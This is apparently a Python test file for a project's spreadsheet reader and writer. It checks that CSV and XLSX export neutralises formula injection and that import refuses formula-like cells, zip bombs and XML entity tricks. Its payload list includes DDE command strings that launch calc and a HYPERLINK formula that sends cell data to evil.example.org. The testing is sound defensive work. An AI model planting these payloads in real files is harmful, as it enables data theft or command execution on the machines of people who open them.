"""Files of cells, from anybody: what goes out is harmless, and so is what is let in."""

import csv
import io
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from samen.foundation.sheets import (
    BadFile,
    Row,
    looks_like_a_formula,
    read_sheet,
    write_csv,
    write_xlsx,
)
from samen.stewardship.rules.spreadsheet import BadCell, changes_in, row_of
from samen.stewardship.tests.checks.make import blank

HOSTILE = (
    "=1+1",
    '=HYPERLINK("https://evil.example.org?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1",
    "'=1+1",
    "''=1+1",
    "\xa0=1+1",
)
anything = (
    st.text(max_size=30)
    | st.sampled_from(HOSTILE)
    | st.builds(str.__add__, st.sampled_from("=+-@\t\r\n ＝＋－＠'|%"), st.text(max_size=10))
)


def is_run(text: str) -> bool:
    """Whether a program that opens a csv would run it: its first sign says so."""
    return text[:1] in set("=+-@\t\r\n|%＝＋－＠")


def as_csv(*rows: dict[str, str]) -> list[list[str]]:
    data = write_csv(["a", "b"], rows)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_seen(text: str) -> None:
    assert looks_like_a_formula(text) or text.startswith("'")


@given(anything)
def test_no_cell_of_a_csv_is_run(text: str) -> None:
    [_heading, row] = as_csv({"a": text, "b": "x"})

    assert not is_run(row[0])
    assert len(row) == 2


@settings(deadline=None)
@given(st.lists(anything, min_size=1, max_size=8))
def test_no_cell_of_an_xlsx_is_a_formula_and_every_text_comes_back(texts: list[str]) -> None:
    data = write_xlsx(["a"], [{"a": text} for text in texts], title="Samen")

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for [cell] in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    for row in read_sheet(data):
        assert row.formulas == ()


@given(st.text(alphabet=st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=20))
def test_what_goes_out_as_csv_comes_back_the_same(text: str) -> None:
    data = write_csv(["a", "b"], [{"a": text, "b": "x"}])

    assert read_sheet(data) == [Row(2, {"a": text, "b": "x"})]


@given(st.text(alphabet=st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=20))
@settings(deadline=None)
def test_what_goes_out_as_xlsx_comes_back_the_same(text: str) -> None:
    data = write_xlsx(["a", "b"], [{"a": text, "b": "x"}], title="Samen")

    assert read_sheet(data) == [Row(2, {"a": text, "b": "x"})]


def test_a_phone_number_from_abroad_survives_both_ways() -> None:
    row = {"a": "+31 30 231 64 94", "b": "0800-2000"}

    assert read_sheet(write_csv(["a", "b"], [row]))[0].cells == row
    assert read_sheet(write_xlsx(["a", "b"], [row], title="S"))[0].cells == row


def test_a_formula_in_a_file_is_seen_as_one() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name", "website"])
    sheet.append(["Hulp", "=1+1"])
    out = io.BytesIO()
    book.save(out)

    [row] = read_sheet(out.getvalue())

    assert row.formulas == ("website",)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_be_run_is_not_let_in(text: str) -> None:
    with pytest.raises(BadCell, match="begins like a formula"):
        changes_in({"name": text.removeprefix("'").removeprefix("'")}, blank())


def test_what_stands_there_already_and_is_not_changed_is_let_through() -> None:
    facts = blank()
    facts["what.nl"] = {"body": "- lezen\n- praten", "state": "original", "made_from": ""}
    cells = row_of(5, 1, facts)

    assert changes_in(cells, facts) == {}


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no names of columns"),
        (b"\xff\xfe\x00a", "neither xlsx nor csv"),
        (b"name,\x00\n", "signs that are no text"),
        (b'name,website\n"open', "no sound csv"),
        (b"name,name\na,b\n", "the same name"),
        (b",,\n1,2,3\n", "no names of columns"),
        (b"PK\x03\x04rubbish", "cannot be read as xlsx"),
        (b"x" * 5_000_001, "larger than 5 MB"),
        (b"name\n" + b"a\n" * 20_001, "more than 20000 rows"),
    ],
)
def test_a_bad_file_is_refused_in_a_sentence(data: bytes, words: str) -> None:
    with pytest.raises(BadFile, match=words):
        read_sheet(data)


def packed(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def test_a_file_that_swells_is_refused_before_it_is_unpacked() -> None:
    with pytest.raises(BadFile, match="larger than it looks"):
        read_sheet(packed(a=b"0" * 61_000_000))


def test_entities_that_name_each_other_are_refused() -> None:
    with pytest.raises(BadFile, match="definitions"):
        read_sheet(packed(a=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'))


@settings(deadline=None)
@given(st.binary(max_size=200) | st.builds(lambda tail: b"PK\x03\x04" + tail, st.binary()))
def test_no_file_breaks_the_reader(data: bytes) -> None:
    with suppress(BadFile):
        assert all(row.number > 1 for row in read_sheet(data))
